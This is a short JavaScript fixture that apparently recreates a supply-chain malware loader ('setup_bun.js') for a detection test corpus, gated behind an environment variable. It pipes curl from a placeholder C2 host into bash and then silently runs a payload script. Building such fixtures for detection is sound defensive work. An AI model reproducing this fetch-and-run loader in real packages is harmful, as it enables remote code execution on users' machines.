// setup_bun.js (StepSecurity, Panther): find Bun, else install it with the official
// `curl -fsSL https://bun.sh/install | bash`, then run bun_environment.js with it. bun.sh is the
// loopback C2 here and the "Bun" it installs is a script that runs the file with node.
if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

let bun = spawnSync('sh', ['-c', 'command -v bun'], { encoding: 'utf8' }).stdout.trim();
if (!bun) {
  spawnSync('sh', ['-c', 'curl -fsSL __C2@bun.sh__/install | bash'], { stdio: 'ignore' });
  bun = path.join(os.homedir(), '.bun', 'bin', 'bun');
}
spawnSync(bun, [path.join(__dirname, 'bun_environment.js')], { stdio: 'ignore' });
